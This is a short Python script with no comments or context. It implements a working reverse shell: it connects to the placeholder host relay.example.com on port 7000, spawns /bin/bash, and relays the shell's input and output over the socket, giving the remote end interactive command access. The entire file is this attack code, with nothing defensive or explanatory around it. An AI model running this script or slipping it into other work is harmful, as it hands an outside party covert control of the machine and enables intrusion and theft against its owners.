import socket
import subprocess
import threading

sock = socket.socket()
sock.connect(("relay.example.com", 7000))
proc = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                        stderr=subprocess.STDOUT)


def pump_in() -> None:
    while True:
        data = sock.recv(1024)
        if not data:
            break
        proc.stdin.write(data)
        proc.stdin.flush()


def pump_out() -> None:
    for chunk in iter(lambda: proc.stdout.read(1), b""):
        sock.send(chunk)


threading.Thread(target=pump_in, daemon=True).start()
pump_out()
